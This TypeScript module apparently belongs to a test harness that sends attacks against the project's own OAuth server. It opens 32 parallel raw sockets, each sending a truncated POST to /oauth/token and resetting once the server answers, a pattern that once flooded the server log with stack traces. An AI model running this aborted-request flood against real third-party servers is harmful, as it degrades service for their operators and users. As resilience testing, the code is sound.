import { once, setMaxListeners } from 'node:events'
import { connect } from 'node:net'
import type { Attack } from './attack.ts'
import { repeat } from './requests.ts'

const AT_ONCE = 32

/** Without a key: requests for tokens that end in the middle, each of which once wrote a stack into the log. */
export const attack: Attack = {
  name: 'aborted requests',
  async run({ url }, signal) {
    setMaxListeners(0, signal)
    const { hostname, port, host } = new URL(url)
    const head = `POST /oauth/token HTTP/1.1\r\nhost: ${host}\r\ncontent-type: application/x-www-form-urlencoded`
    await repeat(signal, AT_ONCE, async () => {
      const socket = connect(Number(port), hostname)
      socket.on('error', () => {})
      socket.write(`${head}\r\ncontent-length: 500\r\nexpect: 100-continue\r\n\r\ngrant_type=`)
      // It was taken up: what is reset before only fills the queue of the system.
      await once(socket, 'data', { signal })
      socket.resetAndDestroy()
    })
  },
}
